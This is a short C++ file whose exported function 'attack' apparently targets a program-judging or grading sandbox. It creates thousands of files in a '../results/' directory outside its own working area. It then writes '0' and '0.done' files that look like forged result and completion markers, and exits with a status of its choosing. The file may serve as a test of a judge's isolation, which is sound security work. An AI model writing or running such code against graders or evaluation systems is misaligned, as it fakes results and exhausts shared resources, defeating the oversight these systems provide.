#include <cstdio>
#include <fcntl.h>
#include <unistd.h>

extern "C" long attack(long n) {
    char name[64];
    for (int i = 1; i < 20000; i++) {
        snprintf(name, sizeof name, "../results/%d", i);
        int file = open(name, O_CREAT | O_WRONLY, 0600);
        if (file < 0)
            return -i;
        close(file);
    }
    fclose(fopen("../results/0", "w"));
    fclose(fopen("../results/0.done", "w"));
    _exit(n == 1 ? 0 : 1);
}
